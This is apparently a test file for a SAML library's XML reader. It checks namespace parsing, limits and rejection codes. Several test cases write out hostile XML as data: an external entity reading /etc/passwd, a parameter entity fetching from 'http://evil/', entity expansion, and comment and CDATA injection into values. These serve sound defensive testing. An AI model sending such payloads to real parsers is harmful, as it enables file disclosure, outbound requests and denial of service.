import { describe, expect, test } from "bun:test";
import * as fc from "fast-check";
import { namespaces } from "#protocols/saml/constants.ts";
import { SamlError } from "#protocols/saml/errors.ts";
import {
  attributeOf,
  childOf,
  childrenOf,
  elementsOf,
  messageLimits,
  metadataLimits,
  readXml,
  textOf,
} from "#protocols/saml/xml.ts";
import { codeOf } from "./support/codes.ts";

const read = (xml: string) => readXml(xml, messageLimits);

describe("readXml", () => {
  test("reads names by namespace, attributes and text", () => {
    const root = read(
      `<?xml version="1.0" encoding="UTF-8"?>\n<x:a xmlns:x="urn:x" n="1 &amp; 2"><b xmlns="urn:b"> é&#65;\r\n</b></x:a>`,
    );
    expect([root.namespaceURI, root.localName, attributeOf(root, "n")]).toEqual([
      "urn:x",
      "a",
      "1 & 2",
    ]);
    expect(textOf(childOf(root, "urn:b", "b")!)).toBe("éA");
    expect(childOf(root, "urn:x", "b")).toBeUndefined();
    expect(attributeOf(root, "missing")).toBeUndefined();
  });

  test("strips a byte order mark", () => {
    expect(read("\uFEFF<a/>").localName).toBe("a");
  });

  test("keeps U+0085 and U+2028, which only XML 1.1 folds", () => {
    expect(read("<a>x\u0085y\u2028z\rw</a>").textContent).toBe("x\u0085y\u2028z\nw");
  });

  test("refuses a second child where one is expected, and elements where text is", () => {
    const root = read("<a><b/><b/></a>");
    expect(childrenOf(root, "", "b")).toEqual([]);
    expect(elementsOf(root).length).toBe(2);
    const twice = read('<a xmlns="urn:a"><b/><b/></a>');
    expect(codeOf(() => childOf(twice, "urn:a", "b"))).toBe("invalid_message");
    expect(codeOf(() => textOf(twice))).toBe("invalid_message");
  });

  const deep = (levels: number) => "<a>".repeat(levels) + "</a>".repeat(levels);
  const many = (count: number, part: (index: number) => string) =>
    Array.from({ length: count }, (_, index) => part(index)).join("");

  test.each([
    ["an empty text", "", "not_xml"],
    ["an end that is missing", "<a><b></a>", "not_xml"],
    ["text behind the root", "<a/>x", "not_xml"],
    ["two roots", "<a/><a/>", "not_xml"],
    ["an attribute without quotes", "<a b=1/>", "not_xml"],
    ["attributes without a space between", `<a b="1"c="2"/>`, "not_xml"],
    ["an attribute given twice", `<a b="1" b="2"/>`, "not_xml"],
    ["an element prefix without a namespace", "<x:a/>", "not_xml"],
    ["an attribute prefix without a namespace", `<a x:b="1"/>`, "not_xml"],
    ["the end of a CDATA section alone", "<a>]]></a>", "not_xml"],
    ["a control character", "<a>\u0001</a>", "not_xml"],
    ["a lone surrogate", "<a>\uD800</a>", "not_xml"],
    ["a reference to a control character", "<a>&#1;</a>", "not_xml"],
    ["a reference to a surrogate", "<a>&#xD800;</a>", "not_xml"],
    ["a reference beyond Unicode", "<a>&#x110000;</a>", "not_xml"],
    ["XML 1.1", `<?xml version="1.1"?><a/>`, "forbidden_xml"],
    ["another encoding", `<?xml version="1.0" encoding="UTF-16"?><a/>`, "forbidden_xml"],
    ["S17 a comment in a value", "<a>admin<!---->.evil</a>", "forbidden_xml"],
    ["S18 a processing instruction in a value", "<a>admin<?x?>.evil</a>", "forbidden_xml"],
    ["S18 a processing instruction before the root", "<?x?><a/>", "forbidden_xml"],
    ["S19 CDATA in a value", "<a>admin<![CDATA[.evil]]></a>", "forbidden_xml"],
    ["S19 an entity that only a DTD can define", "<a>&nbsp;</a>", "forbidden_xml"],
    ["S29 a DOCTYPE without any use", "<!DOCTYPE a><a/>", "forbidden_xml"],
    [
      "S29 an external entity",
      `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
      "forbidden_xml",
    ],
    [
      "S29 a parameter entity",
      `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/">%x;]><a/>`,
      "forbidden_xml",
    ],
    [
      "S29 a billion laughs",
      `<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]><a>&m;</a>`,
      "forbidden_xml",
    ],
    ["S29 an attribute default", `<!DOCTYPE a [<!ATTLIST a ID CDATA "x">]><a/>`, "forbidden_xml"],
    ["S15 a repeated ID", `<a ID="x"><b ID="x"/></a>`, "duplicate_id"],
    ["S15 an ID repeated as Id", `<a ID="x"><b Id="x"/></a>`, "duplicate_id"],
    ["S15 an ID repeated as id", `<a ID="x"><b id="x"/></a>`, "duplicate_id"],
    ["S15 xml:id", `<a ID="x"><b xml:id="x"/></a>`, "forbidden_xml"],
    ["S24 a namespaced ID", `<a xmlns:x="urn:x" x:ID="x"/>`, "forbidden_xml"],
    ["S24 an ID with a quote", `<a ID="x&apos;y"/>`, "not_xml"],
    ["S24 an ID that begins with a digit", `<a ID="1"/>`, "not_xml"],
    ["S24 xml:xmlns", `<a xml:xmlns="urn:x"/>`, "forbidden_xml"],
    ["S24 a prefix for the xml namespace", `<a xmlns:x="${namespaces.xml}"/>`, "forbidden_xml"],
    ["S24 a prefix for the xmlns namespace", `<a xmlns:x="${namespaces.xmlns}"/>`, "forbidden_xml"],
    ["S24 another meaning of the xml prefix", `<a xmlns:xml="urn:x"/>`, "forbidden_xml"],
    ["S24 a prefix taken back", `<a xmlns:x=""/>`, "forbidden_xml"],
    ["S23 a relative namespace", `<a xmlns="relative"/>`, "forbidden_xml"],
    ["S23 a relative namespace behind a prefix", `<a xmlns:x="1"/>`, "forbidden_xml"],
    ["S30 too many bytes", `<a>${"x".repeat(messageLimits.maxBytes)}</a>`, "too_large"],
    [
      "S30 too many bytes in few characters",
      `<a>${"é".repeat(messageLimits.maxBytes / 2)}</a>`,
      "too_large",
    ],
    ["S30 nesting over the limit", deep(33), "too_large"],
    ["S30 nesting far over the limit", "<a>".repeat(60_000), "too_large"],
    ["S30 too many elements", `<a>${"<b/>".repeat(1_000)}</a>`, "too_large"],
    ["S30 too many attributes", `<a${many(4_001, (index) => ` a${index}=""`)}/>`, "too_large"],
  ])("refuses %s", (_, xml, code) => {
    expect(codeOf(() => read(xml))).toBe(code);
  });

  test("accepts what is exactly at a limit", () => {
    expect(codeOf(() => read(deep(32)))).toBe("accepted");
    expect(codeOf(() => read(`<a>${"<b/>".repeat(999)}</a>`))).toBe("accepted");
  });

  test.each([
    ["unclosed tags", "<a>".repeat(80_000)],
    ["opening brackets", "<".repeat(250_000)],
    ["ampersands", "&".repeat(250_000)],
    ["quotes", `<a a=${'"'.repeat(250_000)}`],
    ["spaces in a tag", `<a ${" ".repeat(250_000)}`],
    ["equal signs", `<a ${"= ".repeat(120_000)}`],
    ["attributes on one element", `<a ${many(3_999, (index) => `a${index}="" `)}/>`],
    ["references", `<a>${"&#65;".repeat(50_000)}</a>`],
    ["declarations", `<?xml version="1.0"${" ".repeat(250_000)}`],
  ])("spends little on %s", (_, xml) => {
    const started = performance.now();
    codeOf(() => read(xml));
    expect(performance.now() - started).toBeLessThan(500);
  });

  test("drops comments from metadata, also such as hold markup, but nothing else", () => {
    const metadata = (xml: string) => readXml(xml, metadataLimits);
    expect(textOf(metadata("<!-- <!DOCTYPE x> --><a>x<!-- y -->z</a><!-- -->"))).toBe("xz");
    expect(codeOf(() => metadata("<a><!-- </a>"))).toBe("not_xml");
    expect(codeOf(() => metadata("<!DOCTYPE a><a/>"))).toBe("forbidden_xml");
    expect(codeOf(() => metadata("<a><![CDATA[ <!-- ]]> --></a>"))).toBe("forbidden_xml");
    expect(codeOf(() => metadata(`<a>${"<!--".repeat(200_000)}</a>`))).toBe("not_xml");
    expect(codeOf(() => metadata("<a><?x?></a>"))).toBe("forbidden_xml");
  });

  test("answers any text at all with a tree or a SamlError", () => {
    const piece = fc.constantFrom(
      ..."<a></a>|<a/>|<|>|/|&|;|&#|\"|'|=| |xmlns|:|ID|a|<!--|-->|<![CDATA[|]]>|<?|?>|\uFEFF|\u0000|\uD800".split(
        "|",
      ),
    );
    const text = fc.oneof(
      fc.string(),
      fc.array(piece, { maxLength: 30 }).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(text, (xml) => {
        try {
          read(xml);
        } catch (error) {
          if (!(error instanceof SamlError)) throw error;
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
